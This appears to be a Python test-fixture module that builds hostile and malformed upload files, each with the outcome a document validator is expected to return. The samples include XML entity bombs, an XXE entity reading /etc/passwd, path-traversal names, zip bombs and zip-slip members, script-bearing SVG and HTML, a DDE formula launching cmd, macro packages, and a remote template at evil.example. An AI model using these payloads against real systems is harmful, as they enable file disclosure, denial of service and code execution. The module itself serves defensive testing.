"""Files that mean harm or are none: made here, each with the name it comes under and what has to become of it."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping

from tests.samples import hostile_pdfs, odt, packing, pdf, people, word
from tests.samples.hostile_pdfs import ACTS, OPENED
from tests.samples.packing import packed
from tests.samples.word import paragraph


_LAUGHS = (
    '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    f"<w:document {word.SPACES}><w:body>{paragraph('x')}</w:body></w:document>"
)
_OUTSIDE = (
    '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    f"<w:document {word.SPACES}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
)
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
_EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def corpus() -> Iterator[tuple[str, bytes, str]]:
    """Every bad file: the name it comes under, its bytes, and the expected outcome."""
    yield from _names()
    yield from _not_documents()
    yield from _archives()
    yield from _words()
    yield from hostile_pdfs.corpus()


def _names() -> Iterator[tuple[str, bytes, str]]:
    form = word.table_form(people.ELIN)
    yield "../../etc/form.docx", form, OPENED
    yield "form\x00.docx", form, OPENED
    yield "cod\u202excod.docx", form, OPENED
    yield f"{'f' * 300}.docx", form, OPENED
    yield "C:\\forms\\FORM.DOCX ", form, OPENED
    yield "", form, OPENED
    yield "form", form, OPENED
    yield ".docx", form, OPENED
    yield "form.pdf", form, "named-otherwise"
    yield "form.docx.exe", form, "named-otherwise"
    yield "form.png", form, "named-otherwise"
    yield "form.docx", odt.table_form({}), "named-otherwise"
    yield "form.odt", pdf.line_form({}), "named-otherwise"
    yield "form.docx", pdf.line_form({}), "named-otherwise"


def _not_documents() -> Iterator[tuple[str, bytes, str]]:
    yield "form.docx", b"", "empty"
    yield "form.pdf", b"\x00" * 4096, "empty"
    yield "form.pdf", b" \r\n\t", "empty"
    yield "form.pdf", b"%PDF-1.7\n" + b"\x00" * (20 * 1024 * 1024), "too-large"
    yield "form.docx", _picture(50_000, 50_000), "picture"
    yield "form.pdf", b"\xff\xd8\xff\xe0" + b"jpeg" * 9, "picture"
    yield "form.jpg", b"\x00\x00\x00\x18ftypheic" + b"\x00" * 20, "picture"
    yield "form.gif", b"GIF89a/*\x00*/=1;alert(1)", "picture"
    yield "form.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "web-page"
    yield "form.docx", b"<!-- a --><!DOCTYPE html><html><body>form</body></html>", "web-page"
    yield "form.docx", b"<?xml version='1.0'?><w:wordDocument/>", "web-page"
    yield "form.pdf", b"<html><script>alert(1)</script></html>" + pdf.line_form({}), "web-page"
    yield "form.pdf", b"\n\n" + pdf.line_form({}), "unknown"
    yield "form.com", _EICAR, "unknown"
    yield "form.txt", b"Forename: Callum\nSurname: Hart", "unknown"
    yield "form.docx", b"\x00\x01\x02 not a document", "unknown"
    yield "form.doc", _OLE + "WordDocument".encode("utf-16-le"), "old-word"
    yield "form.docx", _OLE + "EncryptedPackage".encode("utf-16-le"), "locked"
    yield "form.xls", _OLE + "Workbook".encode("utf-16-le"), "other-office"
    yield "form.rtf", rb"{\rtf1\ansi Forename: Callum}", "rtf"
    yield "form.7z", b"7z\xbc\xaf\x27\x1c", "archive"
    yield "form.docx", zlib.compress(b"x") and b"\x1f\x8b\x08\x00", "archive"


def _archives() -> Iterator[tuple[str, bytes, str]]:
    good = word.parts(paragraph("text"))
    yield "form.docx", packed({"a.txt": "x"}), "archive"
    yield "form.docx", packed({}), "archive"
    yield "form.docx", _nested(9), "archive"
    yield "form.docx", packed(good)[:-30], "broken"
    yield "form.docx", packed(good)[: len(packed(good)) // 2], "broken"
    yield "form.docx", b"PK\x03\x04" + b"\x00" * 100, "broken"
    yield "form.docx", packed(good | {"word/media/zeros.bin": b"\x00" * 12_000_000}), "unpacks-too-large"
    yield (
        "form.docx",
        packed(good | {f"word/media/{n}.bin": b"\x00" * 900_000 for n in range(120)}),
        "unpacks-too-large",
    )
    yield "form.docx", packed(good | {f"word/{n}.xml": "" for n in range(1_001)}), "unpacks-too-large"
    yield "form.docx", _lying(packed(good)), "broken"
    yield "form.docx", packed(good | {"../../evil.xml": "x"}), "strange-archive"
    yield "form.docx", packed(good | {"/etc/evil": "x"}), "strange-archive"
    yield "form.docx", packed(good | {"C:\\evil": "x"}), "strange-archive"
    yield "form.docx", _with_link(good), "strange-archive"
    yield "form.docx", _twice(good), "strange-archive"
    yield "form.docx", _other_compression(good), "strange-archive"
    yield "form.docx", _encrypted(packed(good)), "locked"
    yield "form.docx", b"MZ" + packed(good), "unknown"
    yield "form.docx", packed(good | {"word/document.xml": b"\x00\xff not xml"}), "broken"
    yield "form.docx", packed({k: v for k, v in good.items() if k != "word/document.xml"}), "other-office"


def _words() -> Iterator[tuple[str, bytes, str]]:
    body = paragraph("text")
    good = word.parts(body)
    macro = word.MAIN.replace(
        "openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled"
    )
    sheet = word.MAIN.replace("wordprocessingml.document", "spreadsheetml.sheet")
    dynamic = "<worksheet><c><f>cmd|' /C calc'!A0</f></c></worksheet>"
    yield "form.docm", packed(word.parts(body, kind=macro)), "macros"
    yield "form.docx", packed(word.parts(body, kind=macro)), "macros"
    yield "form.docx", packed(good | {"word/vbaProject.bin": b"\xcc\x61"}), "macros"
    yield (
        "form.xlsm",
        packed(word.parts(body, kind=sheet.replace("sheet.main", "sheet.macroEnabled.main"))),
        "macros",
    )
    yield (
        "form.xlsx",
        packed(word.parts(body, kind=sheet) | {"xl/worksheets/sheet1.xml": dynamic}),
        "other-office",
    )
    yield "form.docx", packed(good | {"word/document.xml": _LAUGHS}), "document-type"
    yield "form.docx", packed(good | {"word/document.xml": _OUTSIDE}), "document-type"
    yield "form.docx", packed(good | {"word/document.xml": _OUTSIDE.encode("utf-16")}), "document-type"
    yield "form.docx", packed(good | {"word/document.xml": _declared("<!DOCTYPE w>")}), "document-type"
    yield (
        "form.docx",
        packed(good | {"word/document.xml": _declared('<!DOCTYPE w SYSTEM "x.dtd">')}),
        "document-type",
    )
    yield "form.docx", packed(good | {"[Content_Types].xml": _LAUGHS}), "document-type"
    yield "form.docx", packed(good | {"word/styles.xml": _LAUGHS}), "document-type"
    yield "form.odt", packed(odt.parts("") | {"content.xml": _LAUGHS}, stored=("mimetype",)), "document-type"
    yield "form.docx", packed(good | {"word/document.xml": "<a>" * 5_000 + "</a>" * 5_000}), "too-long"
    yield "form.docx", packed(good | {"word/document.xml": f"<a>{'<b/>' * 60_001}</a>"}), "too-long"
    yield (
        "form.docx",
        packed(good | {"word/document.xml": f"<a>{packing.noise(4_400_000)}</a>"}),
        "unpacks-too-large",
    )
    yield "form.docx", packed(good | {"word/document.xml": f"<a{_attributes(150_001)}/>"}), "too-long"
    yield "form.docx", packed(good | {"word/document.xml": f"<a>{'<b></b>' * 60_001}</a>"}), "too-long"
    yield "form.docx", packed(good | {"word/embeddings/x.bin": b"\xd0\xcf\x11\xe0"}), ACTS
    yield "form.docx", _remote_template(good), ACTS


def _picture(width: int, height: int) -> bytes:
    head = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + head + struct.pack(">I", zlib.crc32(head))


def _declared(document_type: str) -> str:
    return f"{document_type}<w:document {word.SPACES}><w:body>{paragraph('x')}</w:body></w:document>"


def _attributes(count: int) -> str:
    return "".join(f' a{number}=""' for number in range(count))


def _nested(depth: int) -> bytes:
    data = b"innermost"
    for level in range(depth):
        data = packed({f"{level}.zip": data})
    return data


def _lying(data: bytes) -> bytes:
    """An archive whose directory says that the document is smaller than it unpacks to."""
    place = data.rindex(b"word/document.xml") - 46
    return data[: place + 24] + struct.pack("<I", 10) + data[place + 28 :]


def _with_link(parts: Mapping[str, bytes | str]) -> bytes:
    out = io.BytesIO(packed(parts))
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _twice(parts: Mapping[str, bytes | str]) -> bytes:
    data = packed({**parts, "word/documenT.xml": "other"})
    return data.replace(b"word/documenT.xml", b"word/document.xml")


def _other_compression(parts: Mapping[str, bytes | str]) -> bytes:
    out = io.BytesIO(packed(parts))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_BZIP2) as archive:
        archive.writestr("word/other.xml", "x" * 100)
    return out.getvalue()


def _encrypted(data: bytes) -> bytes:
    """The same archive with the flag set that says that its first member is encrypted."""
    place = data.index(b"PK\x01\x02")
    return data[: place + 8] + b"\x01" + data[place + 9 :]


def _remote_template(parts: Mapping[str, bytes | str]) -> bytes:
    relation = (
        '<Relationship Type="x/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
    )
    name = "word/_rels/document.xml.rels"
    return packed({**parts, name: str(parts[name]).replace("</Rel", f"{relation}</Rel")})
